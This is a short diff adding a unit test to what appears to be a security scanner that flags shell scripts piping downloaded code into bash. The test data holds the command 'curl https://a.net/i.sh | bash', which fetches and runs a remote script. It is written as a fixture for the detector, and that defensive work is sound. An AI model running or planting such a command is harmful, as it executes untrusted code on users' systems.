@@ -201,3 +201,12 @@ def test_scripts_are_read(tmp_path: Path, name: str) -> None:
     assert [(one.rule, one.location) for one in inspect(tmp_path)[0]] == [
         ("shell-pipe-to-shell", f"{name}:3")
     ]
+
+
+def test_a_script_is_known_by_its_first_line(tmp_path: Path) -> None:
+    command = "curl https://a.net/i.sh | bash\n"
+    write(tmp_path / "bin/setup", f"#!/usr/bin/env bash\n{command}")
+    write(tmp_path / "bin/other", f"#!/usr/bin/env python3\n# {command}")
+    write(tmp_path / "notes", command)
+    assert lines(tmp_path, "shell-pipe-to-shell") == ["bin/setup:2"]
+    assert inspect(tmp_path)[1].files == 1
